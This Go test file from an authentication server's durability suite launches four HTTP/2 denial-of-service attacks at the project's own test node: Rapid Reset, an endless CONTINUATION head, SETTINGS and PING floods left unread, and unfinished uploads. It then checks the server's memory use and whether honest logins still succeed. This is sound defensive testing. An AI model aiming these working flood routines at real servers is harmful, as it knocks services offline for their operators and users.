package deploy

// H10: HTTP/2 as nobody honest speaks it.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"regexp"
	"strconv"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/symbolon-auth/symbolon/e2e/durability/campaign"
)

// mostMemory is what an attack may add to the server, in bytes: a little for each
// connection, and what all bodies together may take.
var mostMemory = form(128<<20, 256<<20)

// rude is a connection of somebody who speaks HTTP/2 frame by frame.
type rude struct {
	net.Conn
	*http2.Framer
	head []byte // of a GET for the keys
}

func beRude(t *testing.T, address string) *rude {
	t.Helper()
	conn, err := net.Dial("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	_ = conn.SetDeadline(time.Now().Add(2 * time.Minute)) // a test that hangs says less than one that fails
	r := &rude{conn, http2.NewFramer(conn, conn), head(t, address, "GET", "/keys")}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteSettings(); err != nil {
		t.Fatal(err)
	}
	return r
}

func head(t *testing.T, address, method, path string) []byte {
	t.Helper()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", address}, {":path", path}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			t.Fatal(err)
		}
	}
	return block.Bytes()
}

// request opens a stream; its head ends in the same frame or not.
func (r *rude) request(stream uint32, complete bool) error {
	return r.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: r.head, EndStream: true, EndHeaders: complete})
}

// listen reads whatever comes, so that the server is never held up by the reader.
func (r *rude) listen() { go func() { _, _ = io.Copy(io.Discard, r.Conn) }() }

func TestAttackH10_http2_abuse(t *testing.T) {
	resets := form(10_000, 100_000)
	attacks := map[string]func(t *testing.T, address string) int{
		// CVE-2023-44487: a request costs the sender nothing when it is taken back at once.
		"rapid reset": func(t *testing.T, address string) (sent int) {
			for sent < resets {
				r := beRude(t, address)
				r.listen()
				for stream := uint32(1); sent < resets; stream += 2 {
					if r.request(stream, true) != nil || r.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
						break // it was shown the door, and comes again
					}
					sent++
				}
				r.Close()
			}
			return sent
		},
		// CVE-2023-45288: a head without end.
		"CONTINUATION without end": func(t *testing.T, address string) (sent int) {
			for range form(3, 200) {
				r := beRude(t, address)
				r.listen()
				var field bytes.Buffer
				if err := hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: "x-a", Value: string(bytes.Repeat([]byte("~"), 8<<10))}); err != nil {
					t.Fatal(err)
				}
				if err := r.request(1, false); err != nil {
					t.Fatal(err)
				}
				frames := 0
				for ; frames < 10_000 && r.WriteContinuation(1, false, field.Bytes()) == nil; frames++ {
				}
				if frames == 10_000 {
					t.Error("the server took 80 MB of one head")
				}
				sent += frames
				r.Close()
			}
			return sent
		},
		// CVE-2019-9512 and 9515: each must be answered, and nobody reads the answers.
		"SETTINGS and PING, and no reading": func(t *testing.T, address string) (sent int) {
			for range form(4, 20) {
				r := beRude(t, address)
				_ = r.SetWriteDeadline(time.Now().Add(5 * time.Second)) // the server may have stopped to read
				for range form(50_000, 500_000) {
					if r.WriteSettings() != nil || r.WritePing(false, [8]byte{}) != nil {
						break
					}
					sent += 2
				}
			}
			return sent
		},
		// Bodies that nobody wants, on every stream that is allowed, never finished.
		"uploads without end": func(t *testing.T, address string) (sent int) {
			body := make([]byte, 16<<10)
			for range form(20, 100) {
				r := beRude(t, address)
				r.head = head(t, address, "POST", "/oauth/token")
				r.listen()
				_ = r.SetWriteDeadline(time.Now().Add(2 * time.Second))
				for stream := uint32(1); stream < 200; stream += 2 {
					if r.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: r.head, EndHeaders: true}) != nil {
						break
					}
					for range 3 {
						if r.WriteData(stream, false, body) != nil {
							break
						}
						sent += len(body)
					}
				}
			}
			return sent
		},
	}
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			begun := time.Now()
			n := campaign.NewNode(t, campaign.Settings{})
			n.Up(t)
			before := memory(t, n.PID(), "VmRSS")
			ctx, stop := context.WithCancel(t.Context())
			served := make(chan *campaign.Load)
			go func() { served <- honest(ctx, n) }()
			sent := attack(t, n.Address)
			// A whole login after the attack, at least.
			time.Sleep(time.Second)
			stop()
			load := <-served
			for _, wrong := range load.Ledger.Wrongs() {
				t.Error(wrong)
			}
			if load.Ledger.Logins.Load() == 0 {
				t.Error("nobody else was served")
			}
			grown := memory(t, n.PID(), "VmHWM") - before
			if grown > mostMemory {
				t.Errorf("the server took %d MB more", grown>>20)
			}
			figures.add(begun, "H10 %s: %d sent; %d people logged in meanwhile; the server took at most %d MB more", name, sent, load.Ledger.Logins.Load(), grown>>20)
		})
	}
}

// honest lets two people at a time log in until ctx ends.
func honest(ctx context.Context, n *campaign.Node) *campaign.Load {
	load := campaign.NewLoad("http://"+n.Address, campaign.Dial(n.Address))
	load.Workers = 2
	load.Run(ctx, func() bool { return true })
	return load
}

// memory is what the kernel says of a process: VmRSS for now, VmHWM for the most so far.
func memory(t *testing.T, pid int, what string) int {
	t.Helper()
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	found := regexp.MustCompile(`(?m)^` + what + `:\s+(\d+) kB`).FindSubmatch(status)
	if found == nil {
		t.Fatal(errors.New("no " + what))
	}
	kilobytes, err := strconv.Atoi(string(found[1]))
	if err != nil {
		t.Fatal(err)
	}
	return kilobytes << 10
}
